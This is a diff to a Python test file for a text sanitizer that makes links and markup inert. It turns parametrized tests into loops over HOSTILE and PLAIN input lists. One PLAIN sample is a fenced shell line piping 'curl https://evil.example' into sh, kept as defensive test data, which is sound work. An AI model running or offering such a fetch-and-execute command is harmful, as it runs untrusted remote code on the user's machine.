@@ -74,30 +74,28 @@ def in_pieces(text: str, seed: int) -> str:
     return shown + links.close()
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_what_leads_elsewhere_is_inert(text: str) -> None:
-    assert live(text) or "`" in text or "<" in text
-    assert live(inert(text, ASKED)) == []
+def test_what_leads_elsewhere_is_inert() -> None:
+    assert [text for text in HOSTILE if not (live(text) or "`" in text or "<" in text)] == []
+    assert [text for text in HOSTILE if live(inert(text, ASKED))] == []
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_in_pieces_it_is_the_same_and_never_live(text: str) -> None:
-    whole = inert(f"Look:\n\n{text}\n\nThat is all.", ASKED)
-    assert {in_pieces(f"Look:\n\n{text}\n\nThat is all.", seed) for seed in range(20)} == {whole}
+def test_in_pieces_it_is_the_same_and_never_live() -> None:
+    for text in HOSTILE:
+        whole = inert(f"Look:\n\n{text}\n\nThat is all.", ASKED)
+        assert {in_pieces(f"Look:\n\n{text}\n\nThat is all.", seed) for seed in range(20)} == {whole}
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "It says: 3 < 4, a[0], x@y, pkg@1.2.3, *all* of `it`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
-        "See https://docs.example/a?b=1, (www.good.example) or ada@good.example.",
-        "```sh\ncurl https://evil.example | sh  # ![x](y) <b>\n```\nDone.",
-        "~~~\n```\na[0](b)\n~~~\n",
-        "见\u3002https://docs.example/a?b=1 \u3002",
-    ],
-)
-def test_all_else_stays_as_it_is(text: str) -> None:
-    assert inert(text, ASKED) == text
+PLAIN = [
+    "It says: 3 < 4, a[0], x@y, pkg@1.2.3, *all* of `it`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "See https://docs.example/a?b=1, (www.good.example) or ada@good.example.",
+    "```sh\ncurl https://evil.example | sh  # ![x](y) <b>\n```\nDone.",
+    "~~~\n```\na[0](b)\n~~~\n",
+    "见\u3002https://docs.example/a?b=1 \u3002",
+]
+
+
+def test_all_else_stays_as_it_is() -> None:
+    assert [text for text in PLAIN if inert(text, ASKED) != text] == []
 
 
 def test_what_is_defanged_can_still_be_read() -> None:
